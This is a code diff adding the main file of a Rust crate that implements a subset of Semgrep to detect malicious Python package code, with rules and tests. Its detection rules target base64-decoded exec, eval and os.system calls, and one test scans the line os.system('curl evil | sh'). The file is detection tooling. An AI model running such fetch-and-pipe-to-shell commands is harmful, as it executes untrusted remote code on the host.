@@ -1,0 +1,107 @@
+//! `semgrep-engine` — a from-scratch Semgrep subset.
+//!
+//! Semgrep rules are YAML documents whose patterns are source-language
+//! fragments with metavariables (`$X`) and ellipses (`...`). The paper's
+//! RuleLLM emits Semgrep rules for malicious-package *code structure*
+//! (§II-B, Table I), and its alignment agent needs a compiler that rejects
+//! malformed rules with actionable messages (§IV-C). This crate provides:
+//!
+//! * [`yaml`] — a mini-YAML parser (mappings, sequences, quoted/plain/
+//!   block scalars) sufficient for Semgrep's schema;
+//! * [`SemgrepRule`] — the rule schema: `id`, `languages`, `message`,
+//!   `severity`, `metadata`, and `pattern` / `patterns` /
+//!   `pattern-either` / `pattern-not` operators;
+//! * a structural [`matcher`](match_module) over the [`pysrc`] AST with
+//!   metavariable unification and ellipsis argument matching.
+//!
+//! # Examples
+//!
+//! ```
+//! let src = r#"
+//! rules:
+//!   - id: detect-exec-b64
+//!     languages: [python]
+//!     message: "exec of base64-decoded payload"
+//!     severity: ERROR
+//!     pattern: exec(base64.b64decode($X))
+//! "#;
+//! let rules = semgrep_engine::compile(src)?;
+//! let module = pysrc::parse_module("exec(base64.b64decode(data))\n");
+//! let findings = semgrep_engine::scan_module(&rules, &module);
+//! assert_eq!(findings[0].rule_id, "detect-exec-b64");
+//! # Ok::<(), semgrep_engine::SemgrepError>(())
+//! ```
+
+#![forbid(unsafe_code)]
+#![warn(missing_docs)]
+
+mod error;
+mod matcher;
+mod rule;
+pub mod yaml;
+
+pub use error::SemgrepError;
+pub use matcher::{match_module, Finding};
+pub use rule::{compile, CompiledSemgrepRules, PatternOp, SemgrepRule, Severity};
+
+use pysrc::Module;
+
+/// Scans a parsed Python module with every rule, returning all findings.
+pub fn scan_module(rules: &CompiledSemgrepRules, module: &Module) -> Vec<Finding> {
+    let mut out = Vec::new();
+    for rule in &rules.rules {
+        out.extend(match_module(rule, module));
+    }
+    out
+}
+
+/// Convenience: parse `source` and scan it.
+pub fn scan_source(rules: &CompiledSemgrepRules, source: &str) -> Vec<Finding> {
+    scan_module(rules, &pysrc::parse_module(source))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn end_to_end_scan() {
+        let rules = compile(
+            r#"
+rules:
+  - id: os-system
+    languages: [python]
+    message: "shell command execution"
+    severity: WARNING
+    pattern: os.system($CMD)
+"#,
+        )
+        .expect("compile");
+        let findings = scan_source(&rules, "import os\nos.system('curl evil | sh')\n");
+        assert_eq!(findings.len(), 1);
+        assert_eq!(findings[0].rule_id, "os-system");
+        assert_eq!(findings[0].line, 2);
+    }
+
+    #[test]
+    fn multiple_rules_scan() {
+        let rules = compile(
+            r#"
+rules:
+  - id: a
+    languages: [python]
+    message: "m"
+    severity: INFO
+    pattern: eval($X)
+  - id: b
+    languages: [python]
+    message: "m"
+    severity: INFO
+    pattern: exec($X)
+"#,
+        )
+        .expect("compile");
+        let findings = scan_source(&rules, "eval(x)\nexec(y)\n");
+        assert_eq!(findings.len(), 2);
+    }
+}
